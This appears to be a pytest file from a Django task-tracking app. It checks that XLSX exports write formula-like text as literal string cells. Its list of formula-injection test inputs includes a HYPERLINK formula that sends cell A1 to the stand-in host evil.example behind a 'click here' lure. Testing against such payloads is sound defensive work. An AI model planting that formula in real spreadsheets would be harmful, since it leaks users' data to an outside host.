"""XLSX exports write every text as text (issue 12, defect 3): a title, a
progress report, an agency name or a search filter starting with a formula
trigger stays a string cell with its exact text, never a formula."""

from __future__ import annotations

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from dieuphoi.core import xlsx
from dieuphoi.core.models import local_today
from dieuphoi.org.tests.factories import AgencyFactory, BodyAgencyFactory
from dieuphoi.tasks.tests.factories import TaskFactory

DAY = datetime.timedelta(days=1)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _cells(wb):
    for ws in wb.worksheets:
        for line in ws.iter_rows():
            for cell in line:
                if cell.value is not None:
                    yield ws.title, cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_task_export_writes_formula_like_text_as_text(
    client, secretariat, hanoi_team, payload
):
    agency = AgencyFactory(code="INJ", name=payload, short_name=payload)
    BodyAgencyFactory(body=hanoi_team, agency=agency, role="member")
    today = local_today()
    TaskFactory(
        body=hanoi_team,
        lead_agency=agency,
        title=payload,
        assigned_on=today - 30 * DAY,
        deadline=today + 30 * DAY,
        last_update_on=today - DAY,
        last_update_text=payload,
    )
    client.force_login(secretariat)
    response = client.get(reverse("tasks:export"), {"q": payload.strip()})
    assert response.status_code == 200, response.status_code
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    found = [(sheet, c) for sheet, c in _cells(wb) if c.value == payload]
    # Title, latest update and lead agency on the task sheet, the agency's
    # row of the rates sheet.
    assert len(found) >= 4, [(s, c.coordinate, c.value) for s, c in _cells(wb)]
    for sheet, c in _cells(wb):
        assert c.data_type != "f", (sheet, c.coordinate, c.value)
        assert c.data_type != "e", (sheet, c.coordinate, c.value)
    for _sheet, c in found:
        assert c.data_type == "s"
        if payload[0] in "=+-@\t\r":
            assert c.quotePrefix, c.coordinate  # Excel shows it literally


def test_text_cell_drops_what_xml_cannot_hold():
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("x")
    cell = xlsx.text_cell(ws, "a\x00b\x01c\ud800d")
    assert cell.value == "abc?d"
    ws.append([cell, *xlsx.row(ws, ["=1", 3, datetime.date(2025, 1, 2)])])
    buffer = io.BytesIO()
    wb.save(buffer)
    (line,) = openpyxl.load_workbook(buffer).worksheets[0].iter_rows()
    assert [c.value for c in line[:3]] == ["abc?d", "=1", 3]
    assert line[1].data_type == "s"
    assert line[3].number_format == "DD/MM/YYYY"
